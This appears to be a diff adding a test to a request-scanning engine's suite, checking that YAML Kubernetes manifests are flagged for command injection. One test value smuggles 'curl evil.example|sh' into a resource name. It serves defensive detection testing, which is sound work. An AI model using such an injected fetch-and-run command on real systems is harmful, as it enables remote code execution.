@@ -573,6 +573,28 @@ def test_a_workloads_program_is_what_its_platform_runs(engine: Engine) -> None:
     assert _json_types(engine, patch, "/api/v1/pods/web/x/y") >= {"rce"}
 
 
+def test_a_workloads_program_in_yaml_is_what_its_platform_runs(engine: Engine) -> None:
+    """The same object in YAML (a console's or a GitOps tool's editor posts it so): its
+    sequences are read without their items' numbers (`….containers.args`), and its text
+    whole quotes the program too. What quotes another field counts."""
+    job = (
+        "apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: {name}\nspec:\n"
+        '  schedule: "0 3 * * *"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n'
+        "          containers:\n            - name: backup\n              image: postgres:16\n"
+        '              command: ["/bin/sh", "-c"]\n              args:\n'
+        "                - pg_dump -h db app | gzip > /backup/app-$(date +%F).sql.gz\n"
+    )
+    yaml = (("Content-Type", "application/yaml"),)
+
+    def types(text: str) -> set[str]:
+        request = Request("POST", "/api/manifests", yaml, text.encode())
+        return {hit.type.value for hit in engine.scan(request)}
+
+    assert types(job.replace("{name}", "backup")) == set()
+    assert types(job.replace("{name}", "x;curl evil.example|sh")) == {"rce"}
+    assert types(job.replace("{name}", "backup").replace("kind: CronJob\n", "")) == {"rce"}
+
+
 def test_a_log_shippers_records_are_what_happened(engine: Engine) -> None:
     """What a log shipper sends its store (OpenTelemetry's log records and metrics' data
     points, Loki's push, Elasticsearch's bulk documents of logs, Splunk's HEC events,
